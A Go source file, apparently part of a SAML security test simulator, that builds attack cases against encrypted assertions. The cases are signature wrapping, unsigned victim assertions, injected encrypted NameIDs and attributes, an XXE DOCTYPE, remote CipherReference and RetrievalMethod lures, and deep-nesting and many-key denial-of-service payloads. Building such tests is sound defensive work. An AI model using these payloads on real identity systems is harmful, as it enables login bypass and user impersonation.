package forge

import (
	"bytes"
	"errors"
	"fmt"
	"strings"

	"github.com/beevik/etree"

	"rollcall.example/simulator/idp"
)

const nsEncryption = "http://www.w3.org/2001/04/xmlenc#"

// Attacks with encrypted parts that stand where nobody expects them, refer elsewhere or
// hold what they should not.
func init() {
	register("enc", pairs()...)
	register("enc",
		Attack{
			Row: "ENC-15", Name: "cipher-reference", Rule: "nothing-fetched", Modes: OnAssertion, Lure: true, NoCrash: true,
			Summary: "says where its ciphertext is to be fetched",
			around:  onData(referCipher),
		},
		Attack{
			Row: "ENC-15", Name: "key-cipher-reference", Rule: "nothing-fetched", Modes: OnAssertion, Lure: true, NoCrash: true,
			Summary: "says where its encrypted key is to be fetched",
			around:  onKey(referCipher),
		},
		Attack{
			Row: "ENC-16", Name: "retrieval-remote", Rule: "nothing-fetched", Modes: OnAssertion, Lure: true, NoCrash: true,
			Summary: "has a RetrievalMethod that leads elsewhere",
			around:  retrieving(func(d Donor) string { return d.Collector + "/key" }),
		},
		Attack{
			Row: "ENC-16", Name: "retrieval-dangling", Rule: "retrieval-dead-end", Modes: OnAssertion, NoCrash: true,
			Summary: "has a RetrievalMethod that leads nowhere",
			around:  retrieving(func(Donor) string { return "#id-of-nothing" }),
		},
		Attack{
			Row: "ENC-16", Name: "retrieval-loop", Rule: "retrieval-dead-end", Modes: OnAssertion, NoCrash: true,
			Summary: "has a key that is encrypted with itself",
			around:  onKey(keyOfItself),
		},
		holding("ENC-18", "not-an-assertion", "holds-a-response", "holds a whole response", func(d Donor, plain string) string {
			return `<saml2p:Response xmlns:saml2p="` + nsProtocol + `" ID="id-of-the-one-inside" Version="2.0">` + unsignedText(victimText(d, plain)) + `</saml2p:Response>`
		}),
		holding("ENC-18", "not-an-assertion", "holds-text", "holds text", func(Donor, string) string { return "leia@rollcall.test" }),
		holding("ENC-18", "not-an-assertion", "holds-two-assertions", "holds an assertion that nobody signed before the signed one",
			func(d Donor, plain string) string { return unsignedText(victimText(d, otherID(plain))) + plain }),
		luring(holding("ENC-18", "not-an-assertion", "holds-a-doctype", "holds a document type that names another address", func(d Donor, plain string) string {
			return `<!DOCTYPE Assertion SYSTEM "` + d.Collector + `/dtd" [<!ENTITY % e SYSTEM "` + d.Collector + `/entity"> %e;]>` + plain
		})),
		holding("ENC-22", "outer-prefixes", "prefixes-from-outside", "uses prefixes that are declared around the ciphertext only", func(_ Donor, plain string) string {
			return strings.Replace(plain, ` xmlns:saml2="`+nsAssertion+`"`, "", 1)
		}),
		Attack{
			Row: "ENC-19", Name: "nested-ciphertext", Rule: "nested", Modes: OnAssertion, NoCrash: true,
			Summary: "is encrypted again and again", around: encryptAgain(5),
		},
		Attack{
			Row: "ENC-19", Name: "nested-elements", Rule: "nested", Modes: OnAssertion, NoCrash: true,
			Summary: "has a thousand encrypted assertions, one in the other", around: nestElements(1000),
		},
		injecting("encrypted-id", "has an encrypted name put before the one that was signed", "<saml2:NameID", func(d Donor) (*etree.Element, error) {
			name := etree.NewElement("saml2:NameID")
			name.CreateAttr("xmlns:saml2", nsAssertion)
			name.SetText(d.Victim)
			return d.Claims.Encrypt.EncryptNameID(name)
		}),
		injecting("encrypted-attribute", "has an encrypted attribute put before those that were signed", "<saml2:Attribute ", func(d Donor) (*etree.Element, error) {
			attribute := etree.NewElement("saml2:Attribute")
			attribute.CreateAttr("xmlns:saml2", nsAssertion)
			attribute.CreateAttr("Name", "email")
			attribute.CreateElement("saml2:AttributeValue").SetText(d.Victim)
			return renamedHolder(d.Claims.Encrypt.EncryptNameID(attribute))
		}),
		Attack{
			Row: "ENC-21", Name: "encrypted-in-extensions", Rule: "out-of-place", Modes: OnAssertion, Expect: Harmless, wraps: true,
			Summary: "has a second encrypted assertion among its extensions",
			document: func(d Donor, draft *idp.Draft) error {
				evil, err := evilEncrypted(d, draft)
				if err != nil {
					return err
				}
				place, err := extensions(draft.Response)
				if err == nil {
					place.AddChild(evil)
				}
				return err
			},
		},
		Attack{
			Row: "ENC-21", Name: "encrypted-wrapped", Rule: "out-of-place", Modes: OnResponse, Expect: Harmless,
			Summary: "keeps what was signed in its signature, around an encrypted assertion of the attacker's", document: wrapEncrypted,
		},
		Attack{
			Row: "XSW-26", Name: "encrypted-kept-plain-read", Rule: "out-of-place", Modes: OnResponse, Expect: Harmless,
			Summary: "keeps what was signed, an encrypted assertion in it, in its extensions, and has a plain one of the attacker's", document: keepEncrypted,
		},
		Attack{
			Row: "ENC-23", Name: "many-keys", Rule: "many", Modes: OnAssertion, NoCrash: true, Summary: "has 500 encrypted keys, the last of which fits",
			claims: encrypted(func(d Donor, e *idp.Encryption) error {
				ours := e.Recipients[0]
				e.Recipients, e.Placement = nil, idp.InKeyInfo
				for range 499 {
					e.Recipients = append(e.Recipients, idp.Recipient{Key: &d.key().PublicKey})
				}
				e.Recipients = append(e.Recipients, ours)
				return nil
			}),
		},
		Attack{
			Row: "ENC-23", Name: "many-encrypted-assertions", Rule: "many", Modes: OnAssertion, NoCrash: true, Summary: "has 500 encrypted assertions",
			around: manyEncrypted(499),
		},
	)
}

// pairs are the attacks with two assertions, one that was signed honestly and one
// that nobody signed: which is plain, which is encrypted, and in which order they stand.
func pairs() []Attack {
	var all []Attack
	for _, pair := range []struct {
		row, name, summary string
		evilPlain, bePlain bool
	}{
		{"ENC-03", "two-encrypted", "an encrypted assertion that nobody signed %s an encrypted one that was", false, false},
		{"ENC-04", "evil-plain", "a plain assertion that nobody signed %s an encrypted one that was", true, false},
		{"ENC-04", "evil-encrypted", "an encrypted assertion that nobody signed %s a plain one that was", false, true},
	} {
		for _, order := range []string{"before", "behind"} {
			put := map[string]func(sibling, el *etree.Element){"before": before, "behind": behind}[order]
			all = append(all, Attack{
				Row: pair.row, Name: pair.name + "-" + order, Rule: "one-of-two", Modes: OnAssertion, Expect: Harmless, wraps: true,
				Summary: "has " + fmt.Sprintf(pair.summary, order), Sources: []string{"CVE-2026-2092"},
				document: func(d Donor, draft *idp.Draft) error {
					evil, err := evilAssertion(d, draft), error(nil)
					if !pair.evilPlain {
						evil, err = evilEncrypted(d, draft)
					}
					if err != nil {
						return err
					}
					honest := draft.Encrypted
					if pair.bePlain {
						honest = draft.Assertion.Copy()
						before(draft.Encrypted, honest)
						draft.Response.RemoveChild(draft.Encrypted)
					}
					put(honest, evil)
					return nil
				},
			})
		}
	}
	return all
}

// evilAssertion is the donor's own, about the victim, unsigned and with an ID of its own.
func evilAssertion(d Donor, draft *idp.Draft) *etree.Element {
	evil := unsigned(draft.Assertion)
	newID(evil)
	_ = impersonate(d, evil) // it names the attacker: the donor does
	return evil
}

func evilEncrypted(d Donor, draft *idp.Draft) (*etree.Element, error) {
	if d.Claims.Encrypt == nil {
		return nil, errors.New("the donor does not encrypt")
	}
	return d.Claims.Encrypt.EncryptAssertion(evilAssertion(d, draft))
}

// wrapEncrypted is the third classic shape of signature wrapping, with an encrypted
// assertion in the attacker's part.
func wrapEncrypted(d Donor, draft *idp.Draft) error {
	evil, err := evilEncrypted(d, draft)
	if err != nil {
		return err
	}
	original := unsigned(draft.Response)
	signature, err := find(draft.Response, "Signature")
	if err != nil {
		return err
	}
	holder := object()
	holder.AddChild(original)
	signature.AddChild(holder)
	newID(draft.Response)
	before(draft.Encrypted, evil)
	draft.Response.RemoveChild(draft.Encrypted)
	return nil
}

// keepEncrypted wraps a response around the signed one, with a plain assertion in the
// attacker's part.
func keepEncrypted(d Donor, draft *idp.Draft) error {
	evil, original := evilAssertion(d, draft), unsigned(draft.Response)
	place, err := extensions(draft.Response)
	if err != nil {
		return err
	}
	place.AddChild(original)
	newID(draft.Response)
	before(draft.Encrypted, evil)
	draft.Response.RemoveChild(draft.Encrypted)
	return nil
}

// manyEncrypted puts so many more before the donor's encrypted assertion: with the same
// key, and with too little ciphertext to be anything.
func manyEncrypted(count int) func(Donor, *idp.Draft) error {
	return func(_ Donor, draft *idp.Draft) error {
		small := draft.Encrypted.Copy()
		if err := write(small, "EncryptedData/CipherData/CipherValue", strings.Repeat("A", 64)); err != nil {
			return err
		}
		if named := small.FindElement(".//X509Data"); named != nil {
			named.Parent().Parent().RemoveChild(named.Parent())
		}
		for n := range count {
			before(draft.Encrypted, readdressed(small, fmt.Sprintf("-%d", n)))
		}
		return nil
	}
}

// readdressed is a copy in which every ID, and every reference to one, ends otherwise.
func readdressed(el *etree.Element, end string) *etree.Element {
	other := el.Copy()
	for _, part := range other.FindElements(".//*") {
		for _, name := range []string{"Id", "URI"} {
			if value := part.SelectAttrValue(name, ""); value != "" {
				part.CreateAttr(name, value+end)
			}
		}
	}
	return other
}

// holding is an attack that encrypts another text than the assertion as it was signed.
func holding(row, rule, name, summary string, other func(d Donor, plain string) string) Attack {
	expect := Refuse
	if row == "ENC-22" {
		expect = Harmless // whoever reads the text in its place reads what was signed
	}
	return Attack{
		Row: row, Name: name, Rule: rule, Expect: expect, NoCrash: true, Modes: OnAssertion, Summary: summary,
		claims: encrypted(func(d Donor, e *idp.Encryption) error {
			e.Faults.Plain = func(plain []byte) []byte { return []byte(other(d, string(plain))) }
			return nil
		}),
	}
}

func luring(a Attack) Attack {
	a.Lure = true
	return a
}

// injecting is an attack that puts an encrypted element into the assertion after it was
// signed, before the text given.
func injecting(name, summary, at string, make func(Donor) (*etree.Element, error)) Attack {
	return Attack{
		Row: "ENC-20", Name: name, Rule: "part-encrypted", Expect: Harmless, Modes: OnAssertion, Summary: summary,
		claims: func(d *Donor) error {
			injected, err := make(*d)
			if err != nil {
				return err
			}
			text := textOf(injected)
			return encrypted(func(_ Donor, e *idp.Encryption) error {
				e.Faults.Plain = func(plain []byte) []byte { return bytes.Replace(plain, []byte(at), []byte(text+at), 1) }
				return nil
			})(d)
		},
	}
}

// renamedHolder makes of an EncryptedID what holds an attribute.
func renamedHolder(el *etree.Element, err error) (*etree.Element, error) {
	if err == nil {
		el.Tag = "EncryptedAttribute"
	}
	return el, err
}

func textOf(el *etree.Element) string {
	document := etree.NewDocument()
	document.SetRoot(el)
	text, err := document.WriteToString()
	if err != nil {
		panic("forge: writing XML to memory: " + err.Error())
	}
	return text
}

// victimText makes the text of an assertion name the victim, renamed gives it another
// ID, and unsignedText takes its signature out.
func victimText(d Donor, plain string) string {
	return strings.ReplaceAll(plain, ">"+d.Claims.NameID+"<", ">"+d.Victim+"<")
}

func otherID(plain string) string {
	return strings.Replace(plain, ` ID="`, ` ID="other-`, 1)
}

func unsignedText(plain string) string {
	head, rest, _ := strings.Cut(plain, "<ds:Signature")
	_, tail, _ := strings.Cut(rest, "</ds:Signature>")
	return head + tail
}

// referCipher puts an address where the ciphertext was.
func referCipher(d Donor, holder *etree.Element) error {
	data, err := find(holder, "CipherData")
	if err != nil {
		return err
	}
	if err := drop(data, "CipherValue"); err != nil {
		return err
	}
	data.CreateElement("xenc:CipherReference").CreateAttr("URI", d.Collector+"/cipher")
	return nil
}

// retrieving leads the search for the key elsewhere and takes the key away.
func retrieving(from func(Donor) string) func(Donor, *idp.Draft) error {
	return func(d Donor, draft *idp.Draft) error {
		if draft.Encrypted == nil {
			return errors.New("the donor is not encrypted")
		}
		if err := drop(draft.Encrypted, "EncryptedKey"); err != nil {
			return err
		}
		return change(draft.Encrypted, "EncryptedData/KeyInfo/RetrievalMethod", "URI", from(d))
	}
}

// keyOfItself makes a key the one that it is encrypted with.
func keyOfItself(_ Donor, key *etree.Element) error {
	method, err := find(key, "EncryptionMethod")
	if err != nil {
		return err
	}
	method.Child = nil
	method.CreateAttr("Algorithm", nsEncryption+"kw-aes256")
	info := etree.NewElement("ds:KeyInfo")
	info.CreateAttr("xmlns:ds", nsSignature)
	retrieval := info.CreateElement("ds:RetrievalMethod")
	retrieval.CreateAttr("Type", nsEncryption+"EncryptedKey")
	retrieval.CreateAttr("URI", "#"+key.SelectAttrValue("Id", ""))
	if stated := key.SelectElement("KeyInfo"); stated != nil {
		key.RemoveChild(stated)
	}
	behind(method, info)
	return nil
}

// encryptAgain encrypts what is encrypted already, so many times.
func encryptAgain(times int) func(Donor, *idp.Draft) error {
	return func(d Donor, draft *idp.Draft) error {
		for range times {
			again, err := d.Claims.Encrypt.EncryptAssertion(draft.Encrypted)
			if err != nil {
				return err
			}
			before(draft.Encrypted, again)
			draft.Response.RemoveChild(draft.Encrypted)
			draft.Encrypted = again
		}
		return nil
	}
}

// nestElements puts the donor's encrypted assertion inside of others that hold nothing
// else.
func nestElements(depth int) func(Donor, *idp.Draft) error {
	return func(_ Donor, draft *idp.Draft) error {
		outermost := etree.NewElement("saml2:EncryptedAssertion")
		outermost.CreateAttr("xmlns:saml2", nsAssertion)
		before(draft.Encrypted, outermost)
		draft.Response.RemoveChild(draft.Encrypted)
		innermost := outermost
		for range depth - 1 {
			innermost = innermost.CreateElement("saml2:EncryptedAssertion")
		}
		innermost.AddChild(draft.Encrypted)
		return nil
	}
}
